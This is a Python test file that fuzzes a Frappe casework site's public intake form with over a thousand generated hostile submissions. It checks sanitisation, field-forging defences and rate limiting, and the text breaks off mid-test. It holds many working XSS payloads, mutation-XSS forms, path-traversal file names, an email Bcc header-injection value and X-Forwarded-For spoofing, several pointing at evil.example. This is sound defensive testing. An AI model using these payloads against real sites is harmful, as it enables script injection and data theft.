"""The public intake under attack (issue 10): generated hostile intakes over real HTTP, as a guest.

`test_generated_hostile_intakes` sends at least 1,000 intakes generated with hypothesis (derandomised, so
every run sends the same ones), each carrying something hostile:
- valid intakes whose free text is markup (script, style, svg, iframe, forms, event handlers, javascript:
  URLs, entities, mutation-XSS shapes), unicode oddities (lone surrogates, controls, directional overrides,
  noncharacters) and random text, with forged fields (name excepted: owner, docstatus, workflow_state,
  caseworker, consent fields, priority, ...) at the top and in table rows, and hostile file names;
- intakes broken on purpose: wrong types, NaN/Infinity, huge numbers, deep nesting, huge and empty values,
  answers not offered, fake attachments, a forged name, payloads that are not objects;
- random JSON.
Each must answer below 500. A valid one must create exactly its case (or, when a forged field names a
case reference, may be refused by the request guard like any request naming a case), one Equality
Monitoring record, its files and its rows, with no forged field taking effect and every text the doctor typed stored as
plain_text made of it (so Frappe's own sanitiser changed nothing) with no markup in it, in the desk's
getdoc or in /printview (read with html5lib, a browser's parser). A broken one must be a 4xx with a message
and leave no record at all. The counts are printed.
"""

import datetime
import io
import itertools
import json
import os
import re
import uuid
import zipfile
from collections import Counter
from xml.etree import ElementTree

import frappe
import html5lib
import pytest
import requests
from frappe.installer import update_site_config
from frappe.utils import now_datetime
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from intake_payloads import INTAKE, PDF, answers, data_url, remove_intake_case, server_message, submit
from PIL import Image

from lnb_casework.casework.related import POSSIBLE_DUPLICATE
from lnb_casework.intake.plain_text import plain_text
from lnb_casework.intake.rules import DOCTOR_TEXT_COLUMNS, DOCTOR_TEXT_FIELDS, URGENT_SUPPORT

INTAKES = 1000
MARKER = "lnbx"  # in every piece of markup below, where it would show if that piece were parsed as markup
EVERY_CHARACTER = st.characters(exclude_categories=())  # lone surrogates and unassigned code points too

MARKUP = (
	"<script>lnbx(1)</script>",
	'<img src=x onerror="lnbx(1)" data-lnbx>',
	'<a href="javascript:lnbx(1)" data-lnbx>read more</a>',
	'<form action="https://evil.example/lnbx" data-lnbx><input name=q><button>Send</button></form>',
	"<style data-lnbx>*{background:url(https://evil.example/lnbx)}</style>",
	"<svg/onload=lnbx(1) data-lnbx>",
	'<iframe src="https://evil.example/lnbx" data-lnbx></iframe>',
	'<iframe srcdoc="&lt;script&gt;lnbx(1)&lt;/script&gt;" data-lnbx>',
	"<math><mtext><table><mglyph><style><img src=x onerror=lnbx(1) data-lnbx>",
	'<object data="https://evil.example/lnbx.swf" data-lnbx>',
	'<embed src="https://evil.example/lnbx" data-lnbx>',
	'<link rel=stylesheet href="https://evil.example/lnbx.css" data-lnbx>',
	'<meta http-equiv="refresh" content="0;url=https://evil.example/lnbx" data-lnbx>',
	'<base href="https://evil.example/lnbx/" data-lnbx>',
	'<details open ontoggle="lnbx(1)" data-lnbx>',
	'<input autofocus onfocus="lnbx(1)" data-lnbx>',
	'<body onload="lnbx(1)" data-lnbx>',
	'<video><source onerror="lnbx(1)" data-lnbx></video>',
	'<div style="background:url(javascript:lnbx(1))" data-lnbx>',
	"<lnbx-element>",
	"<!--lnbx-->",
	"<!DOCTYPE lnbx>",
	"<?lnbx x?>",
	"<![CDATA[lnbx]]>",
	"</textarea></title></style></script><img src=x onerror=lnbx(1) data-lnbx>",
	'"><img src=x onerror=lnbx(1) data-lnbx>',
	"'><svg onload=lnbx(1) data-lnbx>",
	"<IMG SRC=JaVaScRiPt:lnbx(1) DATA-LNBX>",
	"<img/src/onerror=lnbx(1)/data-lnbx>",
	"<scr<script data-lnbx>ipt>lnbx(1)</script>",
	"<<script data-lnbx>lnbx(1)//<</script>",
	"<\x00img src=x onerror=lnbx(1) data-lnbx>",
	"<img\nsrc=x\nonerror=lnbx(1)\ndata-lnbx>",
	"<sc\u200bript data-lnbx>lnbx(1)</script>",
	"\u202e<lnbx-reversed>",
	"&lt;script&gt;lnbx(1)&lt;/script&gt;",
	"&#60;img src=x onerror=lnbx(1)&#62;",
	"&#x3C;svg onload=lnbx(1)&#x3E;",
	"\uff1cscript\uff1elnbx(1)\uff1c/script\uff1e",
	"javascript:lnbx(1)",
	"data:text/html;base64,PHNjcmlwdD5sbmJ4KDEpPC9zY3JpcHQ+",
	"{{ lnbx }} {% lnbx %} ${lnbx}",
	"[lnbx](javascript:lnbx(1)) ![lnbx](https://evil.example/lnbx.png)",
)
ODDITIES = (
	"\ud800",
	"\udfff",
	"\ud83d",
	"\x00",
	"\x07",
	"\x1b[31m",
	"\x7f",
	"\x85",
	"\u2028",
	"\u2029",
	"\r\n",
	"\r",
	"\ufeff",
	"\u200b",
	"\u200d",
	"\u202e",
	"\u2066",
	"\ufffe",
	"\U0010ffff",
	"e\u0301",
	"<\u0338",
	"Z" + "\u0351\u0352\u0353" * 30,
	"\U0001f469\u200d\u2695\ufe0f",
	"\u0645\u0631\u062d\u0628\u0627",
	"\u6c49\u5b57",
)
ORDINARY = ("pain score <5 and >2", "A&E", "x<y", "<-- see above", " ", "\n", "Dr O'Neill", "40–49")
HOSTILE_FILE_NAMES = (
	"<img src=x onerror=lnbx(1)>",
	"../../../etc/passwd",
	"..\\..\\windows\\win.ini",
	'"><svg onload=lnbx(1)>',
	"letter\u202egpj",
	"\x00\x1bletter",
	"<script>lnbx(1)</script>",
	"{{lnbx}}",
	"javascript:lnbx(1)",
	"\ud800letter",
)
# Fields an intake must never set, and what a new case has instead (checked in forged_fields_taking_effect).
FORGED = {
	"owner": "Administrator",
	"modified_by": "Administrator",
	"creation": "2001-01-01 00:00:00",
	"docstatus": 1,
	"workflow_state": "Closed",
	"caseworker": "Administrator",
	"consent_source": "Recorded by coordinator",
	"consent_recorded_on": "2001-01-01 00:00:00",
	"consent_version": "forged-version",
	"consent_wording": "<b>forged wording</b>",
	"priority": "Urgent",
	"organisation": "Forged Trust",
	"triage_notes": "<script>lnbx(1)</script>",
	"casework_notes": "forged notes",
	"outcome": "forged outcome",
	"reopen_reason": "forged",
	"last_activity_on": "2001-01-01 00:00:00",
	"act_complained_of_on": "2001-01-01",
	"intake_correction_reason": "forged",
	"intake_corrections": [{"reason": "forged", "corrected_by": "Administrator"}],
	"related_cases": [{"related_case": "LNB-2026-00001"}],
	"deadlines": [{"description": "forged", "due_date": "2001-01-01", "source": "Caseworker"}],
	"doctype": "User",
	"idx": 99,
	"_assign": '["Administrator"]',
	"_liked_by": '["Administrator"]',
	"__islocal": 0,
	"flags": {"ignore_permissions": True},
}
FORGED_IN_ROWS = {
	"name": "forged-row",
	"parent": "forged-parent",
	"parenttype": "User",
	"parentfield": "roles",
	"docstatus": 2,
	"owner": "Administrator",
	"idx": 77,
}
WRONG_TYPES = (123, 1.5, True, [], {}, ["a"], {"x": "<script>lnbx(1)</script>"}, [[["deep"]]])
NON_FINITE = ("NaN", "Infinity", "-Infinity", "1e999", "-1e400")
FIRST_DATE, LAST_DATE = datetime.date(1990, 1, 1), datetime.date(2040, 12, 31)
BROKEN_INTAKE_EMAIL = "hostile-broken@example.com"
CASE_REFERENCE = re.compile(r"LNB-\d{4}-\d{5,}")
KEPT_AT_ZERO = (
	"responses >= 500",
	"partial records",
	"forged fields taking effect",
	"stored texts with markup",
	"desk texts with markup from input",
	"print views with markup from input",
)


def picture(image_format: str) -> bytes:
	output = io.BytesIO()
	Image.new("RGB", (24, 16), (10, 120, 200)).save(output, format=image_format)
	return output.getvalue()


def docx() -> bytes:
	output = io.BytesIO()
	with zipfile.ZipFile(output, "w") as archive:
		archive.writestr("[Content_Types].xml", "<Types/>")
		archive.writestr("word/document.xml", "<w:document><script>lnbx(1)</script></w:document>")
	return output.getvalue()


GOOD_FILES = {
	"pdf": (PDF + b"<script>lnbx(1)</script>", "application/pdf"),
	"png": (picture("PNG"), "image/png"),
	"jpg": (picture("JPEG"), "image/jpeg"),
	"txt": (b"<html><script>lnbx(1)</script></html>\nnotes\n", "text/plain"),
	"docx": (docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
}
FAKE_FILES = (
	{"file_name": "photo.jpg", "content": data_url(b"\xff\xd8\xff\xe0 not a picture", "image/jpeg")},
	{"file_name": "scan.png", "content": data_url(b"\x89PNG\r\n\x1a\n" + b"\0" * 32, "image/png")},
	{"file_name": "photo.jpg", "content": data_url(picture("JPEG")[:200], "image/jpeg")},
	{"file_name": "letter.pdf", "content": data_url(b"<html><script>lnbx(1)</script></html>")},
	{"file_name": "drawing.png", "content": data_url(b"<svg onload=lnbx(1)></svg>", "image/svg+xml")},
	{"file_name": "letter.docx", "content": data_url(b"PK\x03\x04 not a zip")},
	{"file_name": "run.exe", "content": data_url(b"MZ\x90\x00", "application/octet-stream")},
	{"file_name": "page.html", "content": data_url(b"<script>lnbx(1)</script>", "text/html")},
	{"file_name": "notes.txt", "content": data_url(b"\x00\x01\x02binary")},
	{"file_name": "empty.pdf", "content": data_url(b"")},
	{"file_name": "letter.pdf", "content": "data:application/pdf;base64,@@@not base64@@@"},
	{"file_name": "letter.pdf", "content": "javascript:lnbx(1)"},
	{"file_name": "", "content": data_url(PDF)},
	{"file_name": "noextension", "content": data_url(PDF)},
	{"file_name": "letter.pdf"},
	{"content": data_url(PDF)},
)


class Choices:
	"""The answers the form offers, read from the site."""

	def __init__(self):
		case = frappe.get_meta("Case")
		equality = frappe.get_meta("Equality Monitoring")

		def options(meta, field: str) -> list[str]:
			return [option for option in meta.get_options(field).split("\n") if option]

		self.selects = {
			field: options(case, field)
			for field in ("contact_preference", "grade", "discrimination", "wellbeing")
		}
		self.equality = {
			f"equality_{field}": options(equality, field)
			for field in (
				"ethnic_group",
				"sex",
				"gender_identity_same_as_birth",
				"sexual_orientation",
				"disability",
				"religion_or_belief",
				"age_band",
				"qualification_region",
			)
		}
		self.process_types = options(frappe.get_meta("Case Process"), "process_type")
		self.kinds = options(frappe.get_meta("Case Discrimination Kind"), "kind")
		self.consent_version = frappe.db.get_single_value("LNB Settings", "consent_version")


def hostile_text(max_pieces: int = 6) -> st.SearchStrategy[str]:
	piece = st.one_of(
		st.sampled_from(MARKUP),
		st.sampled_from(ODDITIES),
		st.sampled_from(ORDINARY),
		st.text(EVERY_CHARACTER, max_size=12),
	)
	return st.tuples(st.sampled_from(MARKUP), st.lists(piece, max_size=max_pieces)).map(
		lambda parts: "".join((parts[0], *parts[1]))
	)


@st.composite
def valid_intake(draw, choices: Choices) -> dict:
	"""An intake the site must take: every answer allowed, every text hostile, forged fields added."""

	def optional(strategy):
		return draw(st.one_of(st.none(), strategy))

	def short_text() -> str:
		# short enough that Unicode composition, which can lengthen text, keeps it within 140 characters
		return draw(hostile_text(3))[:40]

	payload = {
		"doctor_name": "Dr " + short_text(),
		"phone": draw(st.sampled_from(["", None, "+44 7700 900456", "(0)20 7946 0000"])),
		"contact_preference": optional(st.sampled_from(choices.selects["contact_preference"])),
		"gmc_number": draw(st.one_of(st.just(""), st.integers(1_000_000, 9_999_999).map(str))),
		"grade": optional(st.sampled_from(choices.selects["grade"])),
		"specialty": short_text(),
		"employer_name": short_text(),
		"what_happened": "What happened: " + draw(hostile_text(12)),
		"processes": [
			{"process_type": draw(st.sampled_from(choices.process_types)), "details": short_text()}
			for _ in range(draw(st.integers(0, 3)))
		],
		"key_dates": [
			{"description": "Date " + short_text(), "date": draw(st.dates(FIRST_DATE, LAST_DATE)).isoformat()}
			for _ in range(draw(st.integers(0, 2)))
		],
		"discrimination": optional(st.sampled_from(choices.selects["discrimination"])),
		"discrimination_kinds": [
			{"kind": kind} for kind in draw(st.lists(st.sampled_from(choices.kinds), max_size=2, unique=True))
		],
		"wellbeing": draw(st.sampled_from(choices.selects["wellbeing"])),
		"consent_given": draw(st.sampled_from([1, True])),
		"lnb_consent_version": choices.consent_version,
		"lnb_attachments": [
			{
				"file_name": draw(st.sampled_from(HOSTILE_FILE_NAMES)) + "." + extension,
				"content": data_url(*GOOD_FILES[extension]),
			}
			for extension in draw(st.lists(st.sampled_from(sorted(GOOD_FILES)), max_size=2))
		],
	}
	for field, answers_offered in choices.equality.items():
		if draw(st.booleans()):
			payload[field] = draw(st.sampled_from(answers_offered))
	for field in draw(st.lists(st.sampled_from(sorted(FORGED)), max_size=6, unique=True)):
		payload[field] = FORGED[field]
	for row in (*payload["processes"], *payload["key_dates"], *payload["discrimination_kinds"]):
		for field in draw(st.lists(st.sampled_from(sorted(FORGED_IN_ROWS)), max_size=3, unique=True)):
			row[field] = FORGED_IN_ROWS[field]
	return payload


def nested(depth: int) -> str:
	return "[" * depth + "]" * depth


@st.composite
def broken_intake(draw, choices: Choices) -> tuple[str, str]:
	"""(what is broken, the raw form data): a valid intake with one to three things broken, or data that
	is not an intake at all. The site must refuse it with a 4xx."""
	payload = draw(valid_intake(choices)) | {"email": BROKEN_INTAKE_EMAIL}
	text_fields = [*DOCTOR_TEXT_FIELDS, "email", "lnb_consent_version", "grade", "wellbeing"]
	breaks = []
	placeholders = {}
	for _ in range(draw(st.integers(1, 3))):
		kind = draw(
			st.sampled_from(
				[
					"not an intake",
					"wrong type",
					"consent not 0 or 1",
					"rows of the wrong shape",
					"non-finite number",
					"deep nesting",
					"huge number",
					"too long",
					"answer not offered",
					"not an email address",
					"no consent",
					"stale consent wording",
					"fake attachment",
					"too many attachments",
					"forged name",
					"required answer empty",
					"bad row",
				]
			)
		)
		breaks.append(kind)
		field = draw(st.sampled_from(text_fields))
		if kind == "not an intake":
			return kind, draw(
				st.sampled_from(
					["", "[]", "null", '"text"', "1", "{", '{"doctor_name": ', "{'a': 1}", nested(50)]
				)
			)
		if kind == "wrong type":
			payload[field] = draw(st.sampled_from(WRONG_TYPES))
		elif kind == "consent not 0 or 1":
			payload["consent_given"] = draw(st.sampled_from(["1", "yes", 2, 1.0, -1, [], {"x": 1}]))
		elif kind == "rows of the wrong shape":
			table = draw(
				st.sampled_from(["processes", "key_dates", "discrimination_kinds", "lnb_attachments"])
			)
			payload[table] = draw(
				st.sampled_from(
					[
						"GMC",
						[["x"]],
						[None],
						[{"details": 5}],
						[{"description": {"x": 1}}],
						[{"kind": [1]}],
						{},
					]
				)
			)
		elif kind in ("non-finite number", "deep nesting", "huge number"):
			key = f"@@{len(placeholders)}@@"
			payload[field] = key
			placeholders[json.dumps(key)] = {
				"non-finite number": draw(st.sampled_from(NON_FINITE)),
				"deep nesting": nested(draw(st.sampled_from([2, 60, 900, 5_000, 100_000]))),
				"huge number": "9" * draw(st.sampled_from([5_000, 50_000])),
			}[kind]
		elif kind == "too long":
			field, limit = draw(st.sampled_from([("what_happened", 20_000), ("doctor_name", 140)]))
			payload[field] = draw(st.sampled_from(MARKUP)) * (limit // 10) + "x" * draw(
				st.sampled_from([limit, 1_000_000])
			)
		elif kind == "answer not offered":
			field = draw(st.sampled_from(["grade", "wellbeing", "discrimination", *sorted(choices.equality)]))
			payload[field] = draw(hostile_text(2))
		elif kind == "not an email address":
			payload["email"] = draw(
				st.sampled_from(
					[
						"<script>lnbx(1)</script>@example.com",
						"lnbx@example.com, other@example.com",
						"Dr X <lnbx@example.com>",
						"lnbx@",
						"\ud800@example.com",
						"javascript:lnbx(1)",
						"lnbx@example.com\r\nBcc: victim@example.com",
					]
				)
			)
		elif kind == "no consent":
			payload["consent_given"] = draw(st.sampled_from([0, False, None]))
		elif kind == "stale consent wording":
			payload["lnb_consent_version"] = draw(st.sampled_from(["", "1999-1", *MARKUP[:3]]))
		elif kind == "fake attachment":
			payload["lnb_attachments"] = [*payload["lnb_attachments"], draw(st.sampled_from(FAKE_FILES))]
		elif kind == "too many attachments":
			payload["lnb_attachments"] = [
				{"file_name": f"{n}.pdf", "content": data_url(PDF)} for n in range(6)
			]
		elif kind == "forged name":
			payload["name"] = draw(st.sampled_from(["LNB-2026-00001", "new-case-1", MARKUP[0]]))
		elif kind == "required answer empty":
			field = draw(st.sampled_from(["doctor_name", "what_happened", "wellbeing"]))
			payload[field] = draw(st.sampled_from(["", "   ", "\x00\x01\ufeff", "\ud800", None]))
		elif kind == "bad row":
			payload[draw(st.sampled_from(["processes", "key_dates"]))] = draw(
				st.sampled_from(
					[
						[{"process_type": MARKUP[0]}],
						[{"process_type": "Other", "details": "x" * 141}],
						[{"description": "", "date": "2027-01-01"}],
						[{"description": "Hearing", "date": "2027-02-30"}],
						[{"description": "Hearing", "date": MARKUP[1]}],
						[{"description": "Hearing", "date": "2027-01-01"}] * 31,
					]
				)
			)
	raw = json.dumps(payload)
	for key, value in placeholders.items():
		raw = raw.replace(key, value)
	return ", ".join(breaks), raw


JSON_VALUES = st.recursive(
	st.none() | st.booleans() | st.integers() | st.floats() | st.text(EVERY_CHARACTER, max_size=20),
	lambda children: (
		st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4)
	),
	max_leaves=20,
)


@st.composite
def random_intake(draw) -> str:
	"""Random JSON (NaN and Infinity included) under the form's keys and others."""
	keys = st.sampled_from([*DOCTOR_TEXT_FIELDS, "consent_given", "processes", "lnb_attachments", "name"])
	return json.dumps(draw(st.dictionaries(keys | st.text(max_size=8), JSON_VALUES, max_size=8)))


def markup_in_fragment(text: str) -> list[str]:
	"""Every element or comment a browser's parser makes of the text, shown where text goes."""
	return [describe(node) for node in fragment_nodes(text)]


def describe(node) -> str:
	if node.tag is ElementTree.Comment:
		return f"<!--{node.text}-->"
	return f"<{node.tag} {' '.join(node.attrib)}>"


def markup_from_input(nodes) -> list[str]:
	"""Every element, attribute, comment, script or style carrying the marker, and every event handler
	(but the print button's), among parsed nodes. A link to one of the site's own files may carry it:
	Frappe writes the (safe) file name into its path."""
	found = []
	for node in nodes:
		if node.tag is ElementTree.Comment:
			if MARKER in (node.text or "").lower():
				found.append(describe(node))
			continue
		structure = " ".join(
			[
				str(node.tag),
				*(
					f"{name}={value}"
					for name, value in node.attrib.items()
					if not (name in ("href", "src") and value.startswith(("/private/files/", "/files/")))
				),
				*node.attrib,
			]
		)
		if node.tag in ("script", "style"):
			structure += " " + (node.text or "")
		if MARKER in structure.lower() or any(
			name.startswith("on") and value != "window.print();" for name, value in node.attrib.items()
		):
			found.append(describe(node))
	return found


def page_nodes(page: str):
	return html5lib.parse(page, namespaceHTMLElements=False).iter()


def fragment_nodes(text: str):
	fragment = html5lib.parseFragment(text, namespaceHTMLElements=False)
	return (node for node in fragment.iter() if node is not fragment)


def shown_text(page: str) -> str:
	return "".join(html5lib.parse(page, namespaceHTMLElements=False).itertext())


def strings_in(value) -> list[str]:
	if isinstance(value, str):
		return [value]
	if isinstance(value, dict):
		return [text for item in value.values() for text in strings_in(item)]
	if isinstance(value, list):
		return [text for item in value for text in strings_in(item)]
	return []


def record_counts() -> tuple:
	frappe.db.rollback()
	return frappe.db.sql(
		"""select (select count(*) from `tabCase`), (select count(*) from `tabEquality Monitoring`),
		(select count(*) from `tabFile`), (select count(*) from `tabCase Process`),
		(select count(*) from `tabCase Key Date`), (select count(*) from `tabCase Discrimination Kind`),
		(select count(*) from `tabEmail Queue`), (select count(*) from `tabOwed Intake Mail`)"""
	)[0]


def forged_fields_taking_effect(case, sent: dict, started: datetime.datetime) -> list[str]:
	settings_consent = frappe.db.get_value(
		"LNB Settings", "LNB Settings", ["consent_version", "consent_wording"], as_dict=True
	)
	expected = {
		"owner": "Guest",
		"modified_by": "Guest",
		"docstatus": 0,
		"workflow_state": "New",
		"consent_source": "Web form",
		"consent_version": settings_consent.consent_version,
		"consent_wording": settings_consent.consent_wording,
		"priority": "Urgent" if sent.get("wellbeing") == URGENT_SUPPORT else "Normal",
	}
	taken = [f"{field}={case.get(field)!r}" for field, value in expected.items() if case.get(field) != value]
	for field in (
		"caseworker",
		"organisation",
		"triage_notes",
		"casework_notes",
		"outcome",
		"reopen_reason",
		"act_complained_of_on",
		"intake_correction_reason",
		"_assign",
		"_liked_by",
	):
		if case.get(field):
			taken.append(f"{field}={case.get(field)!r}")
	for table in ("intake_corrections", "deadlines"):
		if case.get(table):
			taken.append(f"{table} has {len(case.get(table))} rows")
	# the only related cases an intake has are the possible duplicates the site links
	for row in case.related_cases:
		other = frappe.db.get_value("Case", row.related_case, ["email", "gmc_number"], as_dict=True)
		if row.relation != POSSIBLE_DUPLICATE or not (
			other and (other.email == case.email or (case.gmc_number and other.gmc_number == case.gmc_number))
		):
			taken.append(f"related case {row.related_case} ({row.relation})")
	for field in ("creation", "consent_recorded_on", "last_activity_on"):
		if case.get(field) < started - datetime.timedelta(minutes=1):
			taken.append(f"{field}={case.get(field)}")
	if not re.fullmatch(r"LNB-\d{4}-\d{5}", case.name):
		taken.append(f"name={case.name}")
	for table in ("processes", "key_dates", "discrimination_kinds"):
		for row in case.get(table):
			if (row.parent, row.parenttype, row.parentfield, row.docstatus, row.owner) != (
				case.name,
				"Case",
				table,
				0,
				"Guest",
			) or row.name == FORGED_IN_ROWS["name"]:
				taken.append(
					f"{table} row {row.name} of {row.parenttype} {row.parent}, docstatus {row.docstatus}"
				)
	return taken


def sent_rows(sent: dict, table: str) -> list:
	return sent.get(table) or []


class Battery:
	"""Sends intakes, checks each, keeps the counts and the cases made."""

	def __init__(self, guest, administrator, base_url: str):
		self.guest, self.administrator, self.base_url = guest, administrator, base_url
		self.counts = Counter(dict.fromkeys(KEPT_AT_ZERO, 0))
		self.statuses = Counter()
		self.created: list[str] = []
		self.started = now_datetime()
		self.emails = (f"hostile-{uuid.uuid4().hex[:8]}-{n}@example.com" for n in itertools.count())

	def send(self, raw: str) -> requests.Response:
		before = record_counts()
		response = submit(self.guest, self.base_url, None, raw=raw)
		self.counts["requests sent"] += 1
		self.statuses[response.status_code] += 1
		if response.status_code >= 500:
			self.counts["responses >= 500"] += 1
		assert response.status_code < 500, response.text[:2000]
		if response.status_code == 200:
			self.created.append(response.json()["message"]["name"])
		else:
			self.counts["refused"] += 1
			assert response.status_code >= 400, response.text[:500]
			assert "field_problems" in response.json() or server_message(response), response.text[:500]
			after = record_counts()
			if after != before:
				self.counts["partial records"] += 1
			assert after == before, f"a refused intake left records: {before} -> {after}"
		return response

	def check_created(self, response: requests.Response, sent: dict) -> None:
		reply = response.json()["message"]
		assert set(reply) == {"name", "urgent", "coordinator_being_alerted", "signposting"}, reply
		name = reply["name"]
		self.counts["cases created"] += 1
		frappe.db.rollback()
		case = frappe.get_doc("Case", name)

		files = frappe.get_all(
			"File",
			filters={"attached_to_doctype": "Case", "attached_to_name": name},
			fields=["file_name", "is_private"],
		)
		complete = (
			frappe.db.count("Case", {"email": case.email}) == 1
			and frappe.db.count("Equality Monitoring", {"case": name}) == 1
			and len(files) == len(sent.get("lnb_attachments") or [])
			and all(file.is_private for file in files)
			and all(
				len(case.get(table)) == len(sent_rows(sent, table)) for table in ("processes", "key_dates")
			)
			and len(case.discrimination_kinds) == len(sent_rows(sent, "discrimination_kinds"))
		)
		if not complete:
			self.counts["partial records"] += 1
		assert complete, f"{name}: files {files}, rows {case.as_dict()}"

		forged = forged_fields_taking_effect(case, sent, self.started)
		self.counts["forged fields taking effect"] += len(forged)
		assert not forged, f"{name}: {forged}"

		stored = {field: case.get(field) for field in DOCTOR_TEXT_FIELDS}
		expected = {
			field: plain_text(sent[field]) if sent.get(field) else sent.get(field) for field in stored
		}
		for table, columns in DOCTOR_TEXT_COLUMNS.items():
			for number, (row, sent_row) in enumerate(
				zip(case.get(table), sent_rows(sent, table), strict=True), start=1
			):
				for column in columns:
					stored[f"{table} {number} {column}"] = row.get(column)
					expected[f"{table} {number} {column}"] = plain_text(sent_row.get(column) or "") or None
		stored |= {f"file {file.file_name}": file.file_name for file in files}
		self.counts["stored texts checked"] += len(stored)
		for label, value in stored.items():
			markup = markup_in_fragment(value or "")
			self.counts["stored texts with markup"] += bool(markup)
			assert not markup, f"{name} {label}: {value!r} is read as {markup}"
			if label in expected:
				assert (value or None) == (expected[label] or None), f"{name} {label}: {value!r}"

		desk = self.administrator.get(
			f"{self.base_url}/api/method/frappe.desk.form.load.getdoc",
			params={"doctype": "Case", "name": name},
			timeout=60,
		)
		assert desk.status_code == 200, desk.text[:500]
		self.counts["desk forms checked"] += 1
		form = desk.json()
		shown = form["docs"][0]
		for field in DOCTOR_TEXT_FIELDS:
			assert (shown.get(field) or None) == (case.get(field) or None), f"{name} {field} in the desk"
		for table, columns in DOCTOR_TEXT_COLUMNS.items():
			for row, stored_row in zip(shown.get(table) or [], case.get(table), strict=True):
				for column in columns:
					assert (row.get(column) or None) == (stored_row.get(column) or None), f"{name} {table}"
		for text in strings_in(form):
			if MARKER in text.lower():
				markup = markup_from_input(fragment_nodes(text))
				self.counts["desk texts with markup from input"] += bool(markup)
				assert not markup, f"{name} in the desk: {text!r} is read as {markup}"

		if self.counts["cases created"] % 4 == 1:
			page = self.administrator.get(
				f"{self.base_url}/printview", params={"doctype": "Case", "name": name}, timeout=60
			)
			assert page.status_code == 200, page.text[:500]
			self.counts["print views checked"] += 1
			markup = markup_from_input(page_nodes(page.text))
			self.counts["print views with markup from input"] += bool(markup)
			assert not markup, f"{name} /printview: {markup}"
			if MARKER in str(sent.get("what_happened")).lower():
				assert MARKER in shown_text(page.text).lower(), (
					"the print view shows the doctor's words, as text"
				)

	def delete_created(self) -> None:
		frappe.db.rollback()
		for name in self.created:
			remove_intake_case(name)
		frappe.db.commit()


@pytest.fixture()
def battery(guest, administrator, base_url, intake_open):
	intake_open.intake_rate_limit = 1_000_000
	intake_open.save(ignore_permissions=True)
	frappe.db.commit()
	battery = Battery(guest, administrator, base_url)
	cases_before = frappe.db.count("Case")
	yield battery
	battery.delete_created()
	assert frappe.db.count("Case") == cases_before, "every case the battery made was one it was told of"


def test_generated_hostile_intakes(battery, capsys):
	choices = Choices()
	strategies = {"valid": valid_intake(choices), "broken": broken_intake(choices), "random": random_intake()}
	# a fifth valid: each of those is a case to check, and takes the site several times as long
	mix = ("broken", "valid", "broken", "random", "broken", "broken", "valid", "broken", "broken", "broken")
	intakes = st.sampled_from(mix).flatmap(lambda kind: strategies[kind].map(lambda content: (kind, content)))
	kinds = Counter()

	@settings(
		max_examples=INTAKES,
		derandomize=True,
		deadline=None,
		database=None,
		phases=(Phase.generate,),
		suppress_health_check=list(HealthCheck),
	)
	@given(intakes)
	def send_one(intake):
		kind, content = intake
		kinds[kind] += 1
		if kind == "valid":
			sent = dict(content, email=next(battery.emails))
			response = battery.send(json.dumps(sent))
			if response.status_code == 403 and CASE_REFERENCE.search(json.dumps(sent)):
				# the request guard refuses a request naming a case (here in a forged field), intake or not
				kinds["valid but naming a case: refused"] += 1
				return
			assert response.status_code == 200, f"{response.text[:1000]}\n{sent!r}"
			battery.check_created(response, sent)
		elif kind == "broken":
			breaks, raw = content
			kinds[f"broken: {breaks.split(', ')[0]}"] += 1
			response = battery.send(raw)
			assert 400 <= response.status_code < 500, f"{breaks}: {response.status_code} {raw[:1000]!r}"
		else:
			response = battery.send(content)
			if response.status_code == 200:
				battery.check_created(response, json.loads(content))

	send_one()
	counts = battery.counts
	with capsys.disabled():
		print(
			f"\n\nhostile intakes: {dict(counts)}\nstatuses: {dict(sorted(battery.statuses.items()))}"
			f"\nkinds: {dict(kinds)}"
		)
	assert counts["requests sent"] >= INTAKES
	assert counts["cases created"] >= INTAKES // 8, "enough intakes got through to check what is stored"
	for kept_at_zero in KEPT_AT_ZERO:
		assert counts[kept_at_zero] == 0, kept_at_zero


def test_a_case_made_in_the_desk_keeps_the_text_plain_too(administrator, base_url, intake_open, doctor_email):
	hostile = "<img src=x onerror=lnbx(1)> pain score <5 and >2\x00 \ud800"
	response = administrator.post(
		f"{base_url}/api/resource/Case",
		data={
			"data": json.dumps(
				{
					"doctor_name": "<b>Dr</b> Desk",
					"email": doctor_email,
					"what_happened": hostile,
					"wellbeing": "I am safe and do not need urgent support",
					"consent_given": 1,
					"processes": [{"process_type": "Other", "details": "<svg onload=lnbx(1)>"}],
				}
			)
		},
		timeout=60,
	)
	assert response.status_code == 200, response.text[:1000]
	name = response.json()["data"]["name"]
	frappe.db.rollback()
	case = frappe.get_doc("Case", name)
	assert case.what_happened == "‹img src=x onerror=lnbx(1)> pain score <5 and >2 "
	assert case.doctor_name == "‹b>Dr‹/b> Desk"
	assert case.processes[0].details == "‹svg onload=lnbx(1)>"


def rate_limited_posts(guest, base_url, address: str, forwarded_for: list[str]) -> list[int]:
	return [
		guest.post(
			f"{base_url}{INTAKE}",
			data={"data": json.dumps(answers(address))},
			headers={"X-Forwarded-For": value},
			timeout=60,
		).status_code
		for value in forwarded_for
	]


def test_a_new_x_forwarded_for_each_time_does_not_dodge_the_rate_limit(
	guest, base_url, intake_open, doctor_email
):
	intake_open.intake_rate_limit = 2
	intake_open.save(ignore_permissions=True)
	frappe.db.commit()
	statuses = rate_limited_posts(
		guest, base_url, doctor_email, ["198.51.100.1", "198.51.100.2", "198.51.100.3"]
	)
	assert statuses == [200, 200, 429]
	refused = guest.post(
		f"{base_url}{INTAKE}",
		data={"data": json.dumps(answers(doctor_email))},
		headers={"X-Forwarded-For": "203.0.113.99"},
		timeout=60,
	)
	assert "try again in an hour" in server_message(refused)


@pytest.fixture()
def one_trusted_proxy():
	"""The test plays the one trusted proxy: it talks to the web server behind nginx (LNB_WEB_URL), whose
	X-Forwarded-For nginx would otherwise write itself."""
	kept = frappe.get_conf().get("lnb_trusted_proxy_count")
	update_site_config("lnb_trusted_proxy_count", 1)
	yield os.environ["LNB_WEB_URL"]
	update_site_config("lnb_trusted_proxy_count", "None" if kept is None else kept)


def test_behind_a_trusted_proxy_each_client_is_counted_by_the_address_the_proxy_saw(
	guest, base_url, intake_open, doctor_email, one_trusted_proxy
):
	intake_open.intake_rate_limit = 1
	intake_open.save(ignore_permissions=True)
	frappe.db.commit()
	# the proxy appends the address it saw; whatever comes before it is the client's to write
	statuses = rate_limited_posts(
		guest,
		one_trusted_proxy,
		doctor_email,
